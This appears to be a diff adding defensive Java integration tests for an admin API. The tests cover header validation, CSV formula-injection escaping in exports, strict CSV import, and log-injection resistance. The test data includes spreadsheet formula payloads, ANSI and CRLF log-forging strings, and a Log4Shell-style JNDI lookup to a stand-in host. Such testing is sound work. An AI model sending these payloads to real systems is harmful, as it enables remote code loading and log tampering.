@@ -81,6 +81,75 @@ class AdminBadInputIT {
                 first.send("POST", "/teams", "{\"name\":\"typed\"}", Map.of("Content-Type", type)), 415);
     }
 
+    @ParameterizedTest
+    @ValueSource(strings = {"nothing", "application/json;q=7", "text/", "/"})
+    void anAcceptThatCannotBeReadIsRefused(String accept) throws IOException, InterruptedException {
+        AdminClient.assertRefused(first.send("GET", "/teams", null, Map.of("Accept", accept)), 400);
+        AdminClient.assertRefused(first.showing(null).send("GET", "/teams", null, Map.of("Accept", accept)), 401);
+    }
+
+    /** U13: a spreadsheet takes such a cell for a formula. */
+    @Test
+    void anExportHasNoFormulas() throws IOException, InterruptedException {
+        String provisioner = provisioner();
+        for (String reference : List.of("=HYPERLINK(0)", "+1", "-1", "@SUM(A1)")) {
+            AdminClient.created(first.post(
+                    "/external-account-keys",
+                    "{\"provisioner\":\"%s\",\"reference\":\"%s\"}".formatted(provisioner, reference)));
+        }
+        AdminClient.assertRefused(
+                first.post(
+                        "/external-account-keys",
+                        "{\"provisioner\":\"%s\",\"reference\":\"a\\r\\n=1\"}".formatted(provisioner)),
+                400);
+        Answer export = first.get("/external-account-keys/export?provisioner=" + provisioner);
+        assertThat(export.header("Content-Type")).startsWith("text/csv");
+        assertThat(export.header("Content-Disposition")).startsWith("attachment");
+        assertThat(export.body()).contains("'=HYPERLINK(0)", "'+1", "'-1", "'@SUM(A1)");
+        assertThat(export.body().lines()).noneMatch(line -> line.matches(".*(^|,|\")[=+@-].*"));
+    }
+
+    /** I14: any line that cannot be read fails the whole file. */
+    @Test
+    void aFileWithABadLineMakesNoKey() throws IOException, InterruptedException {
+        String provisioner = provisioner();
+        String path = "/external-account-keys/import?provisioner=" + provisioner;
+        Map<String, String> csv = Map.of("Content-Type", "text/csv");
+        for (String file : List.of(
+                "",
+                "owner\nops\n",
+                "reference\na\na\n",
+                "reference,uses\na,0\n",
+                "reference,expires\na,tomorrow\n",
+                "reference\n\"a\n")) {
+            AdminClient.assertRefused(first.send("POST", path, file, csv), 400);
+        }
+        Answer lines = first.send("POST", path, "reference,uses\ngood,1\nbad,x\n", csv);
+        AdminClient.assertRefused(lines, 400);
+        assertThat(lines.json().getJsonArray("errors").getString(0)).startsWith("Line 3: ");
+        JsonObject dry =
+                AdminClient.ok(first.send("POST", path + "&dryRun=true", "reference,uses\ngood,1\nbad,x\n", csv));
+        assertThat(dry.getInt("lines")).isEqualTo(2);
+        assertThat(dry.getJsonArray("faults")).hasSize(1);
+        assertThat(AdminClient.ok(first.get("/external-account-keys?provisioner=" + provisioner))
+                        .getJsonArray("items"))
+                .isEmpty();
+    }
+
+    /** U14: whatever was sent above and here, a line of the log is one line, and no terminal is coloured by it. */
+    @Test
+    void nothingThatIsSentEndsALineOfTheLog() throws IOException, InterruptedException {
+        first.get("/teams/%1b%5b31m%0d%0aFORGED%20LINE");
+        first.get("/teams?%1b%5b31m%0d%0aFORGED=1");
+        first.send("GET", "/tokens", null, Map.of("User-Agent", "${jndi:ldap://forged.test/a}"));
+        String log = Files.readString(
+                SharedServer.get().settings().data().resolve("log").resolve("server.log"));
+        assertThat(log)
+                .doesNotContain("\u001b")
+                .doesNotContainPattern("(?m)^FORGED")
+                .doesNotContain("forged.test");
+    }
+
     @Test
     void aWrongMethodIsToldWhichThereAre() throws IOException, InterruptedException {
         for (String method : List.of("PUT", "DELETE", "PATCH", "BREW")) {
